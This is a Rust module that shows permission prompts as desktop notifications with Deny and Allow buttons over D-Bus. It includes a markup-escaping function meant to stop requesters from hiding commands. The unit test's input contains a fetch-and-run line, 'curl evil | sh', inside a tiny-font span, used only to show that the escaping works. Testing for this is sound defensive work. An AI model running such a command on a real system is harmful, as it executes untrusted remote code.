//! Asking through desktop notifications with action buttons
//! (`org.freedesktop.Notifications`), with zbus directly.
//!
//! notify-rust is not used: measured, it subscribed to the answer signals
//! only after `Notify` returned (an immediate answer was missed) and took
//! `ActionInvoked` from any sender on the bus (a forged click was accepted).
//! Here the signal streams exist before `Notify` is called, and zbus's proxy
//! streams only deliver signals whose sender is the current owner of the
//! `org.freedesktop.Notifications` name.

use std::collections::HashMap;
use std::time::Duration;

use futures_util::StreamExt;

use super::{Answer, PromptText};

#[zbus::proxy(
    interface = "org.freedesktop.Notifications",
    default_service = "org.freedesktop.Notifications",
    default_path = "/org/freedesktop/Notifications"
)]
trait Notifications {
    #[allow(clippy::too_many_arguments)]
    fn notify(
        &self,
        app_name: &str,
        replaces_id: u32,
        app_icon: &str,
        summary: &str,
        body: &str,
        actions: &[&str],
        hints: HashMap<&str, zbus::Variant<'_>>,
        expire_timeout: i32,
    ) -> zbus::Result<u32>;

    fn close_notification(&self, id: u32) -> zbus::Result<()>;

    fn get_capabilities(&self) -> zbus::Result<Vec<String>>;

    #[zbus(signal)]
    fn action_invoked(&self, id: u32, action_key: String) -> zbus::Result<()>;

    #[zbus(signal)]
    fn notification_closed(&self, id: u32, reason: u32) -> zbus::Result<()>;
}

/// Action keys. None of them is "default": a click on the notification
/// body invokes "default", and that must never mean allow.
const DENY: &str = "muxguard-deny";
const ALLOW_ONCE: &str = "muxguard-allow-once";
const ALLOW_REMEMBER: &str = "muxguard-allow-remember";

/// A session-bus connection used for prompts.
#[derive(Clone)]
pub struct NotificationPrompter {
    connection: zbus::Connection,
}

impl NotificationPrompter {
    /// Connects to the session bus; `None` (with the reason) when there is
    /// none.
    pub async fn connect() -> Result<NotificationPrompter, String> {
        match zbus::Connection::session().await {
            Ok(connection) => Ok(NotificationPrompter { connection }),
            Err(e) => Err(format!("no D-Bus session bus: {e}")),
        }
    }

    pub fn connection(&self) -> &zbus::Connection {
        &self.connection
    }

    /// Whether a notification server with action buttons is there now.
    pub async fn available(&self) -> Result<(), String> {
        let proxy = NotificationsProxy::new(&self.connection)
            .await
            .map_err(|e| format!("notification service: {e}"))?;
        let capabilities = proxy
            .get_capabilities()
            .await
            .map_err(|e| format!("no notification server: {e}"))?;
        if capabilities.iter().any(|c| c == "actions") {
            Ok(())
        } else {
            Err("the notification server cannot show action buttons".into())
        }
    }

    /// Shows the prompt and waits for the answer, at most `timeout`.
    pub async fn ask(&self, text: &PromptText, timeout: Duration) -> Answer {
        match self.ask_inner(text, timeout).await {
            Ok(answer) => answer,
            Err(e) => Answer::Unavailable(format!("notification failed: {e}")),
        }
    }

    async fn ask_inner(&self, text: &PromptText, timeout: Duration) -> zbus::Result<Answer> {
        let proxy = NotificationsProxy::new(&self.connection).await?;
        let capabilities = proxy.get_capabilities().await?;
        if !capabilities.iter().any(|c| c == "actions") {
            return Ok(Answer::Unavailable(
                "the notification server cannot show action buttons".into(),
            ));
        }
        let markup = capabilities.iter().any(|c| c == "body-markup");
        // Subscribe before Notify, so that an immediate answer is not lost.
        let mut actions = proxy.receive_action_invoked().await?;
        let mut closed = proxy.receive_notification_closed().await?;
        let body = if markup {
            escape_markup(&text.body)
        } else {
            text.body.clone()
        };
        let remember_label = format!("Allow for {}", text.remember_label);
        // Deny first: some servers preselect the first action.
        let buttons = [
            DENY,
            "Deny",
            ALLOW_ONCE,
            "Allow once",
            ALLOW_REMEMBER,
            remember_label.as_str(),
        ];
        let hints = HashMap::from([
            ("urgency", zbus::Variant::from(2u8)),
            ("resident", zbus::Variant::from(true)),
        ]);
        let expire_ms = i32::try_from(timeout.as_millis()).unwrap_or(i32::MAX);
        let id = proxy
            .notify(
                "muxguard",
                0,
                "dialog-password",
                &text.summary,
                &body,
                &buttons,
                hints,
                expire_ms,
            )
            .await?;
        let wait = async {
            loop {
                tokio::select! {
                    Some(signal) = actions.next() => {
                        let Ok(args) = signal.args() else { continue };
                        if *args.id() != id {
                            continue;
                        }
                        return match args.action_key().as_str() {
                            ALLOW_ONCE => Answer::AllowOnce,
                            ALLOW_REMEMBER => Answer::AllowRemember,
                            DENY => Answer::Deny,
                            // "default" (a click on the body) or anything else.
                            other => Answer::Dismissed(format!("action {other:?}")),
                        };
                    }
                    Some(signal) = closed.next() => {
                        let Ok(args) = signal.args() else { continue };
                        if *args.id() == id {
                            return Answer::Dismissed(close_reason(*args.reason()));
                        }
                    }
                    else => return Answer::Unavailable("the notification server went away".into()),
                }
            }
        };
        let answer = tokio::time::timeout(timeout, wait)
            .await
            .unwrap_or(Answer::TimedOut);
        // The server does not remove an answered notification by itself.
        let _ = proxy.close_notification(id).await;
        Ok(answer)
    }
}

fn close_reason(reason: u32) -> String {
    match reason {
        1 => "the notification expired".into(),
        2 => "the notification was dismissed".into(),
        3 => "the notification was closed".into(),
        other => format!("the notification closed (reason {other})"),
    }
}

/// Escapes what a markup-parsing server would interpret, so a requester
/// cannot hide part of its command (`<span size='1'>…</span>`).
pub fn escape_markup(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markup_is_neutralised() {
        assert_eq!(
            escape_markup("ls <span size='1'>; curl evil | sh</span> & more"),
            "ls &lt;span size=&apos;1&apos;&gt;; curl evil | sh&lt;/span&gt; &amp; more"
        );
    }
}
